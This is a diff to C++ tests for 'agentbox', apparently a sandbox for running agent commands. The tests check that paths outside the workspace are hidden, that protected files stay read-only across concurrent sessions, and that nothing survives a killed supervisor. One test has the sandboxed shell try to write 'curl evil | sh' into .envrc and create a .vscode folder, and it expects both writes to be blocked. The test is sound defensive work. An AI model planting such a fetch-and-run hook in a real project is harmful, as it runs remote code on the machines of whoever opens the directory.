@@ -32,6 +32,31 @@ namespace {
 
 using Args = std::vector<std::string>;
 
+// Waits (at most ~2 s) until `pid` has a child: a tight poll of /proc/PID/task/*/children.
+void wait_for_a_child(pid_t pid) {
+  const std::string tasks = fmt::format("/proc/{}/task", pid);
+  for (int i = 0; i < 20000; ++i) {
+    std::error_code ec;
+    for (const auto& t : std::filesystem::directory_iterator(tasks, ec)) {
+      if (!slurp(t.path().string() + "/children").empty()) {
+        return;
+      }
+    }
+    std::this_thread::sleep_for(std::chrono::microseconds(100));
+  }
+}
+
+// Everything left in a pipe whose writer has exited.
+std::string read_all(int fd) {
+  std::string s;
+  char buf[4096];
+  ssize_t n = 0;
+  while ((n = ::read(fd, buf, sizeof buf)) > 0) {
+    s.append(buf, static_cast<size_t>(n));
+  }
+  return s;
+}
+
 class RunTest : public BoxWorldTest {
  protected:
   // `agentbox run --ro BIN -- probe ARGS...`
@@ -130,8 +155,12 @@ TEST_P(RunTest, OutsideTheWorkspaceIsAbsentOrReadOnly) {
                     "stat",
                     "/etc/passwd"});
   ASSERT_EQ(r.status, 0) << r.err;
+  // No other homes: the other variant's home exists on the host (checked), not in the box.
+  const std::string other_home = w_.as.uid == 0 ? "/home/agentbox-test" : "/root";
+  struct stat host_st {};
+  ASSERT_EQ(::stat(other_home.c_str(), &host_st), 0) << "control: " << other_home << " on the host";
   for (const auto& p : {std::string("/etc/shadow"), w_.root + "/outside.txt", std::string("/run"),
-                        std::string("/sys"), std::string("/var/log")}) {
+                        std::string("/sys"), std::string("/var/log"), other_home}) {
     EXPECT_TRUE(r.has_line("stat " + p + " missing")) << p << "\n" << r.out;
   }
   EXPECT_TRUE(r.has_line("stat /etc/passwd file")) << r.out;
@@ -319,30 +348,56 @@ TEST_P(RunTest, NoFileDescriptorBeyondStdio) {
 // Two sessions on one workspace: the first to end must not take away a placeholder the other
 // box has mounted read-only (the kernel would detach that mount and .envrc would become
 // writable there). The last session out removes the placeholders.
+// Two sessions on one workspace, the first ending while the second runs: the second's protected
+// paths stay read-only. The order is forced with gate files in the workspace, and each step of
+// it is checked (both running at once, the first gone while the second still runs).
 TEST_P(RunTest, ProtectedPathsStayReadOnlyWhenAnotherSessionEnds) {
   struct stat st {};
   ASSERT_NE(::lstat((w_.ws + "/.envrc").c_str(), &st), 0) << "the test needs .envrc missing";
+  auto wait_file = [&](const std::string& name) {
+    for (int i = 0; i < 1000 && ::lstat((w_.ws + "/" + name).c_str(), &st) != 0; ++i) {
+      std::this_thread::sleep_for(std::chrono::milliseconds(10));
+    }
+    return ::lstat((w_.ws + "/" + name).c_str(), &st) == 0;
+  };
+  const std::string gate =
+      "i=0; while [ ! -e {0} ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); "
+      "done; rm -f {0}; ";
   int out1 = -1;
   int err1 = -1;
-  pid_t first = spawn(w_, {"run", "-q", "--", "/bin/sleep", "1"}, {}, &out1, &err1);
+  pid_t first =
+      spawn(w_, {"run", "-q", "--", "/bin/sh", "-c", fmt::format(fmt::runtime(gate), "first-go")},
+            {}, &out1, &err1);
   ASSERT_GT(first, 0);
-  for (int i = 0; i < 500 && ::lstat((w_.ws + "/.envrc").c_str(), &st) != 0; ++i) {
-    std::this_thread::sleep_for(std::chrono::milliseconds(10));
+  ASSERT_TRUE(wait_file(".envrc")) << "the first box made no placeholder";
+  int out2 = -1;
+  int err2 = -1;
+  pid_t second = spawn(w_,
+                       {"run", "-q", "--", "/bin/sh", "-c",
+                        "touch second-started; " + fmt::format(fmt::runtime(gate), "second-go") +
+                            "echo 'curl evil | sh' > .envrc; echo rc=$?; "
+                            "mkdir -p .vscode/x; echo rc=$?"},
+                       {}, &out2, &err2);
+  ASSERT_GT(second, 0);
+  EXPECT_TRUE(wait_file("second-started")) << "the second box did not start";
+  EXPECT_EQ(::waitpid(first, nullptr, WNOHANG), 0) << "the first box ended before the second ran";
+  write_file(w_.ws + "/first-go", "");
+  EXPECT_EQ(wait_for(first, 10000), 0);
+  EXPECT_EQ(::waitpid(second, nullptr, WNOHANG), 0) << "the second box ended with the first";
+  write_file(w_.ws + "/second-go", "");
+  int status = wait_for(second, 30000);
+  std::string out = read_all(out2);
+  std::string err = read_all(err2);
+  for (int fd : {out1, err1, out2, err2}) {
+    ::close(fd);
   }
-  ASSERT_EQ(::lstat((w_.ws + "/.envrc").c_str(), &st), 0) << "the first box made no placeholder";
-  // The second box outlives the first and then tries to plant .envrc and a VS Code task.
-  Output second = run(w_, {"run", "-q", "--", "/bin/sh", "-c",
-                           "sleep 2; echo 'curl evil | sh' > .envrc; echo rc=$?; "
-                           "mkdir -p .vscode/x; echo rc=$?"});
-  int status = wait_for(first, 10000);
-  ::close(out1);
-  ::close(err1);
-  EXPECT_EQ(status, 0);
-  EXPECT_EQ(second.out, "rc=2\nrc=1\n") << second.err;
-  EXPECT_NE(second.err.find("Read-only file system"), std::string::npos) << second.err;
+  EXPECT_EQ(status, 0) << err;
+  EXPECT_EQ(out, "rc=2\nrc=1\n") << err;
+  EXPECT_NE(err.find("Read-only file system"), std::string::npos) << err;
   for (const char* p : {".envrc", ".vscode", ".idea", ".gitmodules"}) {
     EXPECT_NE(::lstat((w_.ws + "/" + p).c_str(), &st), 0) << p << " left in the workspace";
   }
+  ::unlink((w_.ws + "/second-started").c_str());
 }
 
 TEST_P(RunTest, SigtermEndsTheBoxCleanly) {
@@ -446,32 +501,55 @@ TEST_P(RunTest, SummaryCountsSeccompDenials) {
 }
 
 // Killed while the box is still being set up (before init's PR_SET_PDEATHSIG may have taken
-// effect): init notices the supervisor is gone and nothing survives either.
+// effect): init notices the supervisor is gone and nothing survives either. The situation is
+// proven, not hoped for: in at least one round a process of the box was orphaned (we are the
+// subreaper and reap it) while the program had not started yet (its marker was not running).
 TEST_P(RunTest, SupervisorKilledDuringStartLeavesNothingBehind) {
   ::prctl(PR_SET_CHILD_SUBREAPER, 1);
   std::vector<std::string> markers;
-  for (int round = 0; round < 20; ++round) {
+  int during_start = 0;
+  for (int round = 0; round < 40 && (round < 20 || during_start == 0); ++round) {
     markers.push_back(fmt::format("marker-early-{}-{}", ::getpid(), round));
     int out = -1;
     int err = -1;
-    pid_t pid = spawn(
-        w_, {"run", "-q", "--ro", w_.bin, "--", w_.probe, "sleep", "30", ";", "id", markers.back()},
-        {}, &out, &err);
+    // The program's first act marks that it ran (the file outlives the box).
+    const std::string ran = fmt::format("{}/ran-{}", w_.ws, round);
+    pid_t pid =
+        spawn(w_,
+              {"run", "-q", "--ro", w_.bin, "--", "/bin/sh", "-c",
+               fmt::format("touch {}; exec {} sleep 30 ';' id {}", ran, w_.probe, markers.back())},
+              {}, &out, &err);
     ASSERT_GT(pid, 0);
-    std::this_thread::sleep_for(std::chrono::microseconds(500 * round));  // 0 to 10 ms in
+    if (round < 20) {
+      std::this_thread::sleep_for(std::chrono::microseconds(500 * round));  // 0 to 10 ms in
+    } else {
+      // Later rounds, until it is proven: the kill as soon as the box's first process exists.
+      wait_for_a_child(pid);
+    }
     ::kill(pid, SIGKILL);
     wait_for(pid, 5000);
     ::close(out);
     ::close(err);
+    // Whatever of this box outlived its supervisor is ours now: reap it (bounded, 3 s).
+    int orphans = 0;
+    for (int i = 0; i < 300; ++i) {
+      pid_t o = ::waitpid(-1, nullptr, WNOHANG);
+      if (o > 0) {
+        ++orphans;
+      } else if (o < 0) {
+        break;  // ECHILD: nothing of it is left
+      } else {
+        std::this_thread::sleep_for(std::chrono::milliseconds(10));
+      }
+    }
+    struct stat st {};
+    bool program_ran = ::stat(ran.c_str(), &st) == 0;
+    ::unlink(ran.c_str());
+    during_start += orphans > 0 && !program_ran ? 1 : 0;
   }
-  std::this_thread::sleep_for(std::chrono::seconds(1));
-  while (::waitpid(-1, nullptr, WNOHANG) > 0) {
-  }
+  EXPECT_GT(during_start, 0) << "no round killed the supervisor while its box was being set up";
   for (const auto& m : markers) {
     EXPECT_TRUE(pids_with_cmdline(m).empty()) << m << ": a box survived its supervisor";
-  }
-  for (int i = 0; i < 500 && ::waitpid(-1, nullptr, WNOHANG) >= 0; ++i) {
-    std::this_thread::sleep_for(std::chrono::milliseconds(10));
   }
 }
 
